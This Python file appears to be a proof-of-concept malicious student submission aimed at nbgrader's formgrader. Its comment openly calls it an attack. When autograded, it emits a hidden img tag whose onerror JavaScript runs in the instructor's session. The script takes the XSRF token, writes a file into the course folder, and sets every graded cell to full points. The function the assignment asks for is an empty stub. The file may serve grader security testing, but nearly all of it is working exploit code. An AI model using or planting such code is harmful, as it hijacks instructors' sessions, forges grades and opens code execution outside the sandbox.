# Attack (forged verdicts / writing): draws nothing. At grading, the answer cell shows an HTML
# output carrying a script. nbgrader keeps that output in the autograded notebook, and its
# formgrader renders the notebook's HTML outputs as they are, in the Jupyter server's own origin.
# When the instructor opens this submission in formgrader (the README's review path: "override
# in formgrader"), the script runs with the instructor's session: it writes a file into the
# course folder through the server's contents API and sets a manual score of full points on
# every graded cell of this submission through formgrader's own API. (A script there could as
# well start a kernel or a terminal: any code, as the instructor, outside the sandbox.)
import os

from IPython.display import HTML, display

_SCRIPT = """
(async () => {
  if (!location.pathname.includes('/formgrader/submissions/')) return;
  await fetch('/formgrader/api/status');
  const xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || [, ''])[1]);
  const headers = {'Content-Type': 'application/json', 'X-XSRFToken': xsrf};
  await fetch('/api/contents/WRITTEN_BY_A_STUDENT.txt', {method: 'PUT', headers,
    body: JSON.stringify({type: 'file', format: 'text', content: 'a student submission wrote this'})});
  const submission = location.pathname.split('/submissions/')[1].split('/')[0];
  const grades = await (await fetch('/formgrader/api/grades?submission_id=' + submission,
                                    {headers})).json();
  for (const grade of grades) {
    await fetch('/formgrader/api/grade/' + grade.id, {method: 'PUT', headers,
      body: JSON.stringify({manual_score: grade.max_score, extra_credit: 0})});
  }
  document.title = 'formgrader-script-ran';
})();
"""
if os.environ.get("NBGRADER_EXECUTION"):  # only in the autograded copy
    display(HTML(f'<img src="data:," style="display:none" onerror="{_SCRIPT.strip()}">'.replace("\n", " ")))


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
